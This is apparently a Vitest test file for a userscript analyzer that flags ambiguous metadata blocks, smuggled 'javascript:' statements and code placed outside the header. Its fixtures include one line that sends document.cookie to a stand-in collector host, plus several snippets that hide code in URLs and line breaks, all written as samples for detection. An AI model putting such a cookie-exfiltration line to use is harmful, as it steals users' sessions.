import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { findIn, userscript } from "../testing/find-in.ts";
import { ambiguousText } from "./ambiguous-text.ts";

const plain = ["match https://shop.example/*"];

describe("ambiguous-text", () => {
	test.each([
		["await as a name and as an operator", ["high 6"], userscript([...plain, "top-level-await"], "await (f);")],
		["a line break that hides a statement", ["high 1"], "javascript:x\n-->f()"],
		["an address above a block (A)", ["high 1"], `javascript:0;\n${userscript(plain, "f()")}`],
		["an address below a block (G)", ["high 5"], userscript(plain, 'javascript:"%22;f();%22"')],
		["a key that only some read", ["high 3"], userscript(["download-URL https://x.example/a.js"], "f()")],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(ambiguousText, code)).toEqual(expected);
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
	});

	test.each([
		["a second block", ["medium 5", "medium 7"], `${userscript([], "f();")}\n${userscript([], "f();")}`],
		["a block in a text", ["low 4"], userscript([], 'const head = "// ==UserScript==";')],
	])("grades %s after the first block", (_title, expected, code) => {
		expect(findIn(ambiguousText, code)).toEqual(expected);
	});

	test.each([
		["await inside an async function", userscript(plain, "(async () => { await (f()); })();")],
		["await at the top level", userscript([...plain, "top-level-await"], "const a = await f();")],
		["an address in several lines", "javascript:(function () {\n\tf();\n})();"],
		["Windows line ends", userscript(plain, "f();").replaceAll("\n", "\r\n")],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(ambiguousText, code)).toEqual([]);
	});
});

describe("the reading that is installed", () => {
	const rated = (code: string) => analyzeScript({ code, reading: "installed" });
	const block = (...lines: readonly string[]) =>
		["// ==UserScript==", "// @name A", ...lines, "// ==/UserScript=="].join("\n");

	test.each([
		["code above the block", `start();\n${block("// @match https://a.example/*")}\nrun();`],
		["a marker in a string", `${block("// @match https://a.example/*")}\nf("==UserScript==");`],
		["a repeated key", `${block("// @match https://a.example/*", "// @version 1", "// @version 2")}\nrun();`],
		["a near miss", `${block("// @Match https://a.example/*")}\nrun();`],
		["await with two meanings", `${block("// @match https://a.example/*")}\nvar g, x = await\n/1/g;`],
	])("of %s is rated, and the rating names the place", (_, code) => {
		const { risk_level, vulnerabilities } = rated(code);
		expect([risk_level, ...new Set(vulnerabilities.map(({ type, severity }) => `${type} ${severity}`))]).toEqual([
			"green",
			"ambiguous-text low",
		]);
		expect(vulnerabilities[0]?.description).toContain("as this extension reads and runs it");
		// For the hub, whose readers differ, the same text is not harmless.
		expect(analyzeScript({ code }).vulnerabilities.length).toBeGreaterThan(0);
	});

	test("of code above the block is judged as the program that runs", () => {
		const code = `fetch("https://collector.stranger.test/?c=" + document.cookie);\n${block("// @match https://a.example/*")}`;
		expect(rated(code).risk_level).toBe("red");
	});

	test("takes pages and permissions from the block that counts", () => {
		const code = `${block("// @Match https://a.example/*", "// @grant\u00a0GM_setValue")}\n${block("// @match *://*/*")}\nrun();`;
		expect(rated(code).capabilities).toMatchObject({
			runs_on: [{ what: "https://a.example/*" }],
			grants: [{ what: "GM_setValue" }],
		});
	});
});
